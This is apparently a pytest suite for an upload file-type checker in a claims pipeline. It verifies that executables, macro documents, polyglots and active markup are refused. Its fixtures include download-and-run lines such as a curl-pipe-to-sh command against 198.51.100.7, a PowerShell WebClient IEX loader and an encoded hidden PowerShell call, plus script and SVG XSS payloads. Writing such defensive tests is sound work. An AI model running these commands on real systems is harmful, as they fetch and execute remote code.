"""File-type detection from the first bytes, and the extension / Content-Type cross-check policy."""

from __future__ import annotations

import io
import random
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kafkapipe.config import DEFAULT_FILE_TYPES
from kafkapipe.errors import ValidationError
from kafkapipe.security.filetypes import (
    SNIFF_BYTES,
    canonical_extension,
    check_type,
    detect_type,
    type_from_content_type,
    type_from_path,
)

ALLOWED = list(DEFAULT_FILE_TYPES)


def zip_bytes(names: list[str], *, streamed: bool = False, payload: bytes = b"<x/>" * 50) -> bytes:
    buffer = io.BytesIO()

    class Unseekable(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, data) -> int:  # type: ignore[no-untyped-def]
            return buffer.write(data)

    target = Unseekable() if streamed else buffer
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as archive:  # type: ignore[arg-type]
        for name in names:
            archive.writestr(name, payload)
    return buffer.getvalue()


def ole2_bytes(streams: list[str], *, directory_sector: int = 0) -> bytes:
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 48, directory_sector)
    directory = bytearray(512)
    for index, name in enumerate(["Root Entry", *streams]):
        raw = name.encode("utf-16-le") + b"\0\0"
        directory[index * 128 : index * 128 + len(raw)] = raw
        struct.pack_into("<H", directory, index * 128 + 64, len(raw))
        directory[index * 128 + 66] = 5 if index == 0 else 2
    return bytes(header + directory + bytes(2048))


PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + bytes(200)
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(200)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + bytes(200)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(200)
TIFF_LE = b"II*\x00\x08\x00\x00\x00" + bytes(200)
TIFF_BE = b"MM\x00*\x00\x00\x00\x08" + bytes(200)
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200)
HEIF_MIF1 = b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic" + bytes(200)
AVIF = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(200)
DOCX = zip_bytes(["[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/styles.xml"])
XLSX = zip_bytes(["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml"])
PPTX = zip_bytes(["[Content_Types].xml", "_rels/.rels", "ppt/presentation.xml"])
DOCX_STREAMED = zip_bytes(["[Content_Types].xml", "_rels/.rels", "word/document.xml"], streamed=True)
OOXML_UNKNOWN = zip_bytes(["[Content_Types].xml", "_rels/.rels", "docProps/core.xml"])
ESX = zip_bytes(["XACTDOC.ZIPXML", "SKETCH/1.xml"])
ZIP = zip_bytes(["photos/1.jpg", "notes.txt"])
DOC = ole2_bytes(["WordDocument", "1Table", "\x05SummaryInformation"])
XLS = ole2_bytes(["Workbook", "\x05SummaryInformation"])
XLS95 = ole2_bytes(["Book"])
PPT = ole2_bytes(["PowerPoint Document", "Current User"])
MSG = ole2_bytes(["__substg1.0_0037001F", "__properties_version1.0"])
OLE_FAR_DIRECTORY = ole2_bytes(["WordDocument"], directory_sector=10_000)
TXT = "Claim 4711 — water damage, kitchen.\r\nEstimate attached.\n".encode()
CSV = b"line,description,qty\n1,drywall,12\n"
LATIN = "Schadensmeldung f\xfcr K\xfcche\n".encode("cp1252")
UTF16 = "\ufeffhello, world\n".encode("utf-16-le")
HTML = b"  <!DOCTYPE html><html><body>Access denied</body></html>"
XML = b'<?xml version="1.0"?><claim/>'
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
RANDOM = random.Random(7).randbytes(4096)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (PDF, "pdf"),
        (b"\xef\xbb\xbf%PDF-1.4\n", "pdf"),
        (b"garbage before the header\n%PDF-1.4\n" + bytes(100), "pdf"),
        (JPG, "jpg"),
        (PNG, "png"),
        (GIF, "gif"),
        (b"GIF87a" + bytes(100), "gif"),
        (TIFF_LE, "tiff"),
        (TIFF_BE, "tiff"),
        (HEIC, "heic"),
        (HEIF_MIF1, "heic"),
        (AVIF, "avif"),
        (DOCX, "docx"),
        (DOCX_STREAMED, "docx"),
        (XLSX, "xlsx"),
        (PPTX, "pptx"),
        (OOXML_UNKNOWN, "ooxml"),
        (ESX, "esx"),
        (ZIP, "zip"),
        (b"PK\x05\x06" + bytes(18), "zip"),
        (DOC, "doc"),
        (XLS, "xls"),
        (XLS95, "xls"),
        (PPT, "ppt"),
        (MSG, "msg"),
        (OLE_FAR_DIRECTORY, "ole2"),
        (TXT, "txt"),
        (CSV, "txt"),
        (LATIN, "txt"),
        (UTF16, "txt"),
        (HTML, "html"),
        (XML, "xml"),
        (SVG, "svg"),
        (EXE, "exe"),
        (ELF, "elf"),
        (RANDOM, None),
        (b"", None),
        (b"text with a NUL\x00 byte", None),
        (b"bell \x07 character", None),
    ],
)
def test_detection_from_the_first_bytes(data: bytes, expected: str | None) -> None:
    assert detect_type(data) == expected


def test_text_cut_inside_a_multibyte_character_is_still_text() -> None:
    text = ("\u00e4" * (SNIFF_BYTES // 2)).encode()
    assert detect_type(text[: SNIFF_BYTES - 1]) == "txt"


@pytest.mark.parametrize(
    ("data", "path", "content_type", "expected"),
    [
        (PDF, "/claims/a.pdf", "application/pdf", "pdf"),
        (PDF, "/claims/A.PDF", "application/pdf; charset=binary", "pdf"),
        (PDF, "/claims/a%2Epdf", None, "pdf"),
        (PDF, "/download", "application/octet-stream", "pdf"),
        (PDF, "/a.pdf", "binary/octet-stream", "pdf"),
        (PDF, "/a.bin", "", "pdf"),
        (PDF, "/a.pdf", "application/x-whatever", "pdf"),
        (JPG, "/p/IMG_1.JPEG", "image/pjpeg", "jpg"),
        (PNG, "/p/x.png", "image/png", "png"),
        (GIF, "/x.gif", "image/gif", "gif"),
        (TIFF_LE, "/scan.tif", "image/tiff", "tiff"),
        (HEIC, "/IMG.HEIC", "image/heif", "heic"),
        (DOCX, "/a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx"),
        (DOCX, "/a.docx", "application/zip", "docx"),
        (DOCX, "/bundle.zip", None, "docx"),
        (XLSX, "/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
        (ZIP, "/estimate.esx", "application/octet-stream", "esx"),
        (ZIP, "/a.docx", None, "docx"),
        (ZIP, "/a.zip", "application/x-zip-compressed", "zip"),
        (ESX, "/estimate.esx", "application/zip", "esx"),
        (ESX, "/estimate", None, "esx"),
        (OOXML_UNKNOWN, "/a.xlsx", None, "xlsx"),
        (OOXML_UNKNOWN, "/a", None, "zip"),
        (DOC, "/a.doc", "application/msword", "doc"),
        (XLS, "/a.xls", "application/vnd.ms-excel", "xls"),
        (XLS, "/a", "application/vnd.ms-office", "xls"),
        (OLE_FAR_DIRECTORY, "/a.xls", None, "xls"),
        (OLE_FAR_DIRECTORY, "/a.doc", "application/vnd.ms-office", "doc"),
        (TXT, "/notes.txt", "text/plain; charset=utf-8", "txt"),
        (CSV, "/lines.csv", "text/csv", "txt"),
        (LATIN, "/notiz", None, "txt"),
    ],
)
def test_accepted_combinations(data: bytes, path: str, content_type: str | None, expected: str) -> None:
    assert check_type(data, path, content_type, ALLOWED) == expected


@pytest.mark.parametrize(
    ("data", "path", "content_type", "message"),
    [
        (PDF, "/a.png", None, "content is pdf, extension says png"),
        (PDF, "/a.pdf", "image/png", "content is pdf, Content-Type says png"),
        (PNG, "/a.jpg", "image/jpeg", "mismatch"),
        (DOCX, "/a.xlsx", None, "content is docx, extension says xlsx"),
        (ESX, "/a.docx", None, "mismatch"),
        (ZIP, "/a.esx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "mismatch"),
        (DOC, "/a.xls", None, "content is doc, extension says xls"),
        (XLS, "/a.xls", "application/msword", "mismatch"),
        (TXT, "/a.pdf", None, "content is txt, extension says pdf"),
        (HTML, "/a.pdf", "text/html", "content is html, extension says pdf"),
        (HTML, "/page", "text/html", "file type html not allowed"),
        (TXT, "/error", "text/html; charset=utf-8", "file type html not allowed"),
        (HTML, "/a.txt", "text/plain", "file type html not allowed"),
        (SVG, "/a.svg", "image/svg+xml", "file type svg not allowed"),
        (EXE, "/invoice.pdf", "application/pdf", "content is exe"),
        (EXE, "/setup", None, "file type exe not allowed"),
        (ELF, "/a", None, "not allowed"),
        (AVIF, "/a.avif", "image/avif", "file type avif not allowed"),
        (MSG, "/a.msg", None, "file type msg not allowed"),
        (OLE_FAR_DIRECTORY, "/a", None, "file type ole2 not allowed"),
        (RANDOM, "/a.pdf", "application/pdf", "unrecognised file type"),
        (b"", "/a.pdf", "application/pdf", "empty body"),
    ],
)
def test_refused_combinations(data: bytes, path: str, content_type: str | None, message: str) -> None:
    with pytest.raises(ValidationError) as caught:
        check_type(data, path, content_type, ALLOWED)
    assert message in caught.value.message
    assert caught.value.category == "validation"


def test_allowed_types_are_configurable() -> None:
    assert check_type(PNG, "/a.png", None, ["png"]) == "png"
    with pytest.raises(ValidationError, match="file type pdf not allowed"):
        check_type(PDF, "/a.pdf", None, ["png", "jpg"])


def test_the_original_urls_extension_is_checked_too() -> None:
    assert check_type(PDF, "/blob/7f3a", None, ALLOWED, also_paths=["/claims/a.pdf"]) == "pdf"
    with pytest.raises(ValidationError, match="extension says png"):
        check_type(PDF, "/blob/7f3a.pdf", None, ALLOWED, also_paths=["/claims/photo.png"])


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/a.pdf", "pdf"),
        ("/dir.pdf/file", None),
        ("/a.tar.gz", None),
        ("/.pdf", "pdf"),
        ("/", None),
        ("/noext", None),
        ("/a.JFIF", "jpg"),
        ("/a.Tif", "tiff"),
    ],
)
def test_type_from_path(path: str, expected: str | None) -> None:
    assert type_from_path(path) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("application/pdf", "pdf"),
        ("Application/PDF ; q=1", "pdf"),
        ("application/octet-stream", None),
        ("binary/octet-stream", None),
        (None, None),
        ("", None),
        ("image/x-png", "png"),
    ],
)
def test_type_from_content_type(value: str | None, expected: str | None) -> None:
    assert type_from_content_type(value) == expected


# --- polyglots and active content: the leading bytes decide, and nothing runnable is accepted ---


def _pe_with_pdf_at_64() -> bytes:
    stub = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48))
    stub[60:64] = struct.pack("<I", 128)  # e_lfanew
    return bytes(stub) + b"%PDF-1.7\n1 0 obj<<>>endobj\n" + bytes(40) + b"PE\x00\x00" + bytes(200)


def _zip_with(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


MACRO_CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
PE_PDF = _pe_with_pdf_at_64()
ELF_PDF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"%PDF-1.4\n" + bytes(200)
MACHO_64 = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"%PDF-1.4" + bytes(200)
MACHO_FAT = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(200)
MACHO_32_BE = b"\xfe\xed\xfa\xce" + bytes(200)
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(200)
SHELL_PDF = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\nexit 0\n%PDF-1.4\n" + bytes(100)
HTA = (
    b'<HTML><HEAD><HTA:APPLICATION ID="claim" WINDOWSTATE="minimize"/>'
    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></HEAD></HTML>'
)
HTA_AFTER_TEXT = b"Claim notes for adjuster\r\n<hta:application id=x>\r\n<script>close()</script>\r\n"
SCRIPT_BANNER_PDF = b"<script>alert(document.cookie)</script>\n%PDF-1.4\n" + bytes(100)
POWERSHELL = b"param($u)\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n"
POWERSHELL_ENCODED = b"powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n"
POWERSHELL_PLAIN = b"$u = $env:TEMP + '\\\\x.exe'\nStart-Process $u\n"
BATCH = b"@echo off\r\ncopy \\\\server\\share\\x.exe %TEMP%\r\n%TEMP%\\x.exe\r\n"
VBS = b'Dim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "cmd /c calc"\r\n'
JSCRIPT = b'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n'
NODE = b"const cp = require('child_process');\ncp.exec('id');\n"
HTML_LATE = b"Dear adjuster,\nplease see below.\n\n<iframe src=http://198.51.100.7/></iframe>\n"
SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'
SVG_FOREIGN = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><foreignObject>'
    b'<body xmlns="http://www.w3.org/1999/xhtml"><p>x</p></body></foreignObject></svg>'
)
SVG_PLAIN = b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10" fill="red"/></svg>'
# Active markup past the first 512 bytes: a long comment first, so the start alone looks like text or XML.
LONG_COMMENT = b"<!--" + b" padding" * 75 + b" -->\n"
SVG_AFTER_COMMENT = LONG_COMMENT + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
XML_SVG_AFTER_COMMENT = b'<?xml version="1.0"?>\n' + SVG_AFTER_COMMENT
XML_SCRIPT_AFTER_COMMENT = (
    b'<?xml version="1.0"?>\n' + LONG_COMMENT + b'<claim xmlns:h="http://www.w3.org/1999/xhtml">'
    b"<h:script>alert(1)</h:script></claim>"
)
NOTE_THEN_SVG = b"Claim notes\n" + b"nothing to see here\n" * 40 + b'<svg onload="alert(1)"/>\n'
NOTE_THEN_JS_LINK = b"Claim notes\n" + b"nothing to see here\n" * 40 + b'<a href="javascript:alert(1)">x</a>\n'
DOCM = _zip_with(
    {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/vbaProject.bin": b"\xd0\xcf" * 50}
)
DOCM_BY_CONTENT_TYPES = _zip_with({"[Content_Types].xml": MACRO_CONTENT_TYPES, "word/document.xml": b"<w/>"})
XLSM = _zip_with({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"x" * 99})
DOC_MACRO = ole2_bytes(["WordDocument", "Macros", "_VBA_PROJECT_CUR"])
XLS_MACRO = ole2_bytes(["Workbook", "_VBA_PROJECT_CUR", "VBA"])
PDF_ZIP = PDF + ZIP  # a PDF with a ZIP appended: readers see a PDF, unzip sees an archive
ZIP_PDF = ZIP + PDF
PNG_PDF = PNG[:40] + b"%PDF-1.4\n" + bytes(100)
JPG_SCRIPT = JPG + b"<script>alert(1)</script>"

POLYGLOTS_REFUSED = [
    (PE_PDF, "/claims/invoice.pdf", "application/pdf", "exe"),
    (PE_PDF, "/claims/invoice.scr", None, "exe"),
    (EXE, "/setup", "application/octet-stream", "exe"),
    (ELF_PDF, "/a.pdf", "application/pdf", "elf"),
    (MACHO_64, "/a.pdf", None, "macho"),
    (MACHO_FAT, "/a.zip", None, "macho"),
    (MACHO_32_BE, "/a", None, "macho"),
    (LNK, "/claim.pdf.lnk", None, "lnk"),
    (SHELL_PDF, "/a.pdf", "application/pdf", "script"),
    (HTA, "/claim.hta", "application/hta", "html"),
    (HTA_AFTER_TEXT, "/notes.txt", "text/plain", "html"),
    (SCRIPT_BANNER_PDF, "/a.pdf", "application/pdf", "html"),
    (POWERSHELL, "/run.ps1", None, "script"),
    (POWERSHELL_ENCODED, "/notes.txt", "text/plain", "script"),
    (POWERSHELL_PLAIN, "/x", None, "script"),
    (BATCH, "/a.bat", None, "script"),
    (VBS, "/a.vbs", None, "script"),
    (JSCRIPT, "/a.txt", "text/plain", "script"),
    (NODE, "/a.js", "application/javascript", "script"),
    (HTML, "/page", "text/html", "html"),
    (HTML_LATE, "/letter.txt", "text/plain", "html"),
    (SVG, "/a.svg", "image/svg+xml", "svg"),
    (SVG_ONLOAD, "/a.svg", None, "svg"),
    (SVG_FOREIGN, "/a.svg", None, "svg"),
    (SVG_AFTER_COMMENT, "/a.svg", None, "svg"),
    (SVG_AFTER_COMMENT, "/a", "image/svg+xml", "svg"),
    (XML_SVG_AFTER_COMMENT, "/a.xml", "application/xml", "svg"),
    (XML_SVG_AFTER_COMMENT, "/a.svg", None, "svg"),
    (XML_SCRIPT_AFTER_COMMENT, "/a.xml", "application/xml", "xml"),
    (NOTE_THEN_SVG, "/a.svg", None, "txt read as svg"),
    (NOTE_THEN_SVG, "/a", "image/svg+xml", "txt read as svg"),
    (NOTE_THEN_JS_LINK, "/a.xml", "text/xml", "txt read as xml"),
]


@pytest.mark.parametrize(("data", "path", "content_type", "detected"), POLYGLOTS_REFUSED)
def test_executables_and_active_content_are_refused_even_when_allowed(
    data: bytes, path: str, content_type: str | None, detected: str
) -> None:
    allowed = [*ALLOWED, "exe", "elf", "macho", "lnk", "script", "html", "svg", "xml"]
    with pytest.raises(ValidationError) as caught:
        check_type(data, path, content_type, allowed)
    message = caught.value.message
    assert f"content is {detected}" in message
    assert "executable or active content" in message
    ext = path.rsplit("/", 1)[-1].rpartition(".")[2] if "." in path.rsplit("/", 1)[-1] else None
    if ext:
        assert f"extension says {ext}" in message
    if content_type:
        assert f"Content-Type says {content_type}" in message
    assert caught.value.category == "validation"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (PE_PDF, "exe"),
        (ELF_PDF, "elf"),
        (MACHO_64, "macho"),
        (LNK, "lnk"),
        (SHELL_PDF, "script"),
        (SCRIPT_BANNER_PDF, "html"),
        (PDF_ZIP, "pdf"),
        (ZIP_PDF, "zip"),
        (PNG_PDF, "png"),
        (JPG_SCRIPT, "jpg"),
        (DOCM, "docm"),
        (DOCM_BY_CONTENT_TYPES, "docm"),
        (XLSM, "xlsm"),
        (DOC_MACRO, "doc-macro"),
        (XLS_MACRO, "xls-macro"),
        (SVG_PLAIN, "svg"),
    ],
)
def test_the_leading_magic_decides_a_polyglot(data: bytes, expected: str) -> None:
    assert detect_type(data) == expected


@pytest.mark.parametrize(
    ("data", "path", "content_type", "detected"),
    [
        (DOCM, "/report.docx", None, "docm"),
        (DOCM, "/report.docm", None, "docm"),
        (DOCM_BY_CONTENT_TYPES, "/r", "application/zip", "docm"),
        (XLSM, "/sheet.xlsm", None, "xlsm"),
        (DOC_MACRO, "/letter.doc", "application/msword", "doc-macro"),
        (XLS_MACRO, "/book", None, "xls-macro"),
        (ZIP_PDF, "/a.pdf", "application/pdf", "zip"),
        (PDF, "/invoice.scr", None, "pdf"),  # a name claiming an executable contradicts the bytes
        (TXT, "/run.ps1", "text/plain", "txt"),
    ],
)
def test_macro_containers_and_disguised_archives_are_refused_by_default(
    data: bytes, path: str, content_type: str | None, detected: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        check_type(data, path, content_type, ALLOWED)
    assert f"content is {detected}" in caught.value.message


def test_macro_containers_pass_only_when_allowed_and_keep_a_truthful_extension() -> None:
    assert check_type(DOCM, "/report.docm", None, [*ALLOWED, "docm"]) == "docm"
    assert check_type(DOC_MACRO, "/letter.doc", None, [*ALLOWED, "doc-macro"]) == "doc-macro"
    assert canonical_extension("docm") == "docm"
    assert canonical_extension("doc-macro") == "doc"


def test_a_plain_svg_passes_only_when_allowed() -> None:
    assert check_type(SVG_PLAIN, "/a.svg", "image/svg+xml", [*ALLOWED, "svg"]) == "svg"
    with pytest.raises(ValidationError, match="file type svg not allowed"):
        check_type(SVG_PLAIN, "/a.svg", None, ALLOWED)


@pytest.mark.parametrize(
    ("data", "path", "content_type"),
    [
        (SVG_AFTER_COMMENT, "/a.svg", "image/svg+xml"),
        (XML_SVG_AFTER_COMMENT, "/a.xml", None),
        (XML_SCRIPT_AFTER_COMMENT, "/a.xml", "application/xml"),
        (NOTE_THEN_SVG, "/a.svg", "image/svg+xml"),
        (NOTE_THEN_JS_LINK, "/a.xml", None),
    ],
)
def test_active_markup_past_the_first_bytes_is_never_stored_as_svg_or_xml(
    data: bytes, path: str, content_type: str | None
) -> None:
    with pytest.raises(ValidationError, match="executable or active content"):
        check_type(data, path, content_type, ["svg", "txt", "pdf", "xml"])


def test_plain_svg_and_xml_after_a_long_comment_still_pass() -> None:
    plain_svg = LONG_COMMENT + SVG_PLAIN
    assert check_type(plain_svg, "/a.svg", "image/svg+xml", ["svg"]) == "svg"
    plain_xml = b'<?xml version="1.0"?>\n' + LONG_COMMENT + b"<claim><id>7</id></claim>"
    assert check_type(plain_xml, "/a.xml", "application/xml", ["xml"]) == "xml"


def test_a_pdf_with_a_zip_appended_is_a_pdf() -> None:
    assert check_type(PDF_ZIP, "/claims/a.pdf", "application/pdf", ALLOWED) == "pdf"


def test_a_binary_prefix_never_becomes_a_pdf() -> None:
    junk = random.Random(3).randbytes(300).replace(b"%PDF-", b"xxxxx")
    assert detect_type(junk + b"%PDF-1.4\n" + bytes(100)) != "pdf"


LEGITIMATE = {
    "pdf": (PDF, "/claims/estimate.pdf", "application/pdf"),
    "jpg": (JPG, "/p/IMG_0001.JPG", "image/jpeg"),
    "png": (PNG, "/p/roof.png", "image/png"),
    "gif": (GIF, "/p/a.gif", "image/gif"),
    "tiff": (TIFF_LE, "/scan.tif", "image/tiff"),
    "heic": (HEIC, "/IMG_2.HEIC", "image/heic"),
    "docx": (DOCX, "/letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "xlsx": (XLSX, "/sheet.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "doc": (DOC, "/letter.doc", "application/msword"),
    "xls": (XLS, "/book.xls", "application/vnd.ms-excel"),
    "txt": (TXT, "/notes.txt", "text/plain; charset=utf-8"),
    "zip": (ZIP, "/photos.zip", "application/zip"),
    "esx": (ESX, "/estimate.esx", "application/octet-stream"),
}


def test_the_corpus_covers_every_default_type() -> None:
    assert set(LEGITIMATE) == set(DEFAULT_FILE_TYPES)


@pytest.mark.parametrize("kind", sorted(LEGITIMATE))
def test_legitimate_files_of_every_allowed_type_are_accepted(kind: str) -> None:
    data, path, content_type = LEGITIMATE[kind]
    assert check_type(data, path, content_type, ALLOWED) == kind
    assert check_type(data, "/download", None, ALLOWED) == kind
    assert canonical_extension(kind) == {"tiff": "tiff"}.get(kind, kind)


@pytest.mark.parametrize(
    "text",
    [
        TXT,
        CSV,
        LATIN,
        b"Insured says the set of windows broke; echo from the neighbour's dog.\n",
        b"Claim 12: water damage. Evaluation pending; call adjuster (ext. 4711).\n",
        b"name,amount\nRoof,1200\nEval fee,80\n",
    ],
)
def test_ordinary_claim_text_is_not_mistaken_for_a_script(text: bytes) -> None:
    assert check_type(text, "/notes.txt", "text/plain", ALLOWED) == "txt"


@pytest.mark.parametrize("kind", ["exe", "elf", "macho", "script", "html", "lnk", "ps1", "bat", "hta", "js", "../x"])
def test_no_runnable_extension_is_ever_produced(kind: str) -> None:
    with pytest.raises(ValidationError):
        canonical_extension(kind)


@settings(max_examples=300, deadline=None)
@given(
    magic=st.sampled_from([b"MZ", b"\x7fELF", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"#!"]),
    tail=st.binary(max_size=2048),
    path=st.sampled_from(["/a.pdf", "/a.jpg", "/a.docx", "/a.txt", "/a", "/a.zip"]),
    content_type=st.sampled_from([None, "application/pdf", "image/jpeg", "text/plain", "application/zip"]),
)
def test_anything_that_starts_like_an_executable_is_refused(
    magic: bytes, tail: bytes, path: str, content_type: str | None
) -> None:
    body = magic + PDF + tail  # whatever signature follows
    with pytest.raises(ValidationError, match="executable or active content"):
        check_type(body, path, content_type, [*ALLOWED, "exe", "elf", "macho", "script"])
